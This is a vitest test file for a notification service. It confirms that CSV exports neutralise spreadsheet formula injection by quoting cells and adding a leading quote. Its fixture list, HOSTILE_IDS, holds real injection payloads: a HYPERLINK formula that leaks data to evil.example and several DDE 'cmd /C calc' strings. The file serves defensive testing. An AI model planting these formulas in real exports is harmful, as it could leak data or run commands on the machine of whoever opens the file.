/**
 * CSV formula injection (docs/operations.md#receipts-streams-and-exports, OWASP "CSV injection"): every text cell of an export that starts
 * with = + - @, a tab or a carriage return reaches a spreadsheet with a leading single quote and
 * quoted, so that opening the file never runs it; the bytes of the export are checked as sent.
 */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { csvCell } from '../src/results/csv.ts';
import { createTestInstance, type TestInstance } from './helpers.ts';

const WS = '/api/v1/workspaces/default';

let t: TestInstance;
beforeAll(async () => {
  t = await createTestInstance();
});
afterAll(async () => {
  await t.close();
});

/** Device IDs a device registry or an uploaded audience could carry, each a spreadsheet formula. */
const HOSTILE_IDS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  'plain-device',
];

/** A completed task whose device results carry the hostile IDs, channels and failure reasons. */
async function hostileTask(): Promise<string> {
  const app = await t.request(t.adminToken, {
    method: 'POST',
    url: `${WS}/apps`,
    body: { name: 'Hostile', platform: 'android', provider: 'simulator' },
  });
  const audience = await t.request(t.adminToken, {
    method: 'POST',
    url: `${WS}/audiences`,
    body: { name: 'Hostile IDs', deviceIds: ['x'] },
  });
  const task = await t.request(t.adminToken, {
    method: 'POST',
    url: `${WS}/tasks`,
    body: {
      name: 'Hostile',
      appId: app.json().id,
      title: 'Hello',
      content: 'World',
      clickAction: { type: 'open_app' },
      audienceId: audience.json().id,
      sendType: 'immediate',
    },
  });
  expect(task.statusCode, task.body).toBe(201);
  const taskId = task.json().id as string;
  await t.db
    .insertInto('device_results')
    .values(
      HOSTILE_IDS.map((deviceId, i) => ({
        task_id: taskId,
        device_id: deviceId,
        batch_seq: 1,
        channel: i === 0 ? '@channel' : 'simulator',
        send_result: i === 1 ? ('failure' as const) : ('no_feedback' as const),
        failure_reason: i === 1 ? '-1+1' : null,
        delivered_at: null,
        impression_at: null,
        open_at: null,
        dismissal_at: null,
      })),
    )
    .execute();
  const startedAt = new Date(t.clock.now.getTime() - 3_600_000).toISOString();
  await t.db
    .updateTable('tasks')
    .set({ status: 'completed', started_at: startedAt, completed_at: startedAt, total_sent: 7 })
    .where('id', '=', taskId)
    .execute();
  return taskId;
}

describe('CSV export', () => {
  test('every cell starting with = + - @, a tab or a carriage return is quoted and starts with a quote mark', async () => {
    const taskId = await hostileTask();
    const res = await t.request(t.adminToken, { method: 'GET', url: `${WS}/tasks/${taskId}/devices.csv` });
    expect(res.statusCode).toBe(200);
    const batch = `${taskId}-1`;
    const tail = `,${batch},android,simulator,no_feedback,,,,,\r\n`;
    // Device ID (byte) order: tab, CR, +, -, =, @, p.
    expect(res.rawPayload.toString('utf8')).toBe(
      'deviceId,batchId,platform,channel,sendResult,failureReason,deliveredAt,impressionAt,openAt,dismissalAt\r\n' +
        `"'\t=1+1"${tail}` +
        `"'\r=1+1"${tail}` +
        `"'+1+cmd|' /C calc'!A0",${batch},android,simulator,failure,"'-1+1",,,,\r\n` +
        `"'-2+3+cmd|' /C calc'!A0"${tail}` +
        `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",${batch},android,"'@channel",no_feedback,,,,,\r\n` +
        `"'@SUM(1+1)*cmd|' /C calc'!A0"${tail}` +
        `plain-device${tail}`,
    );
  });

  test('one cell function guards and quotes every value', () => {
    expect(csvCell(null)).toBe('');
    expect(csvCell('')).toBe('');
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    for (const leader of ['=', '+', '-', '@', '\t', '\r']) {
      expect(csvCell(`${leader}1`)).toBe(`"'${leader}1"`);
    }
    // Only the first character decides: a formula sign further in is harmless.
    expect(csvCell('a=1')).toBe('a=1');
  });
});
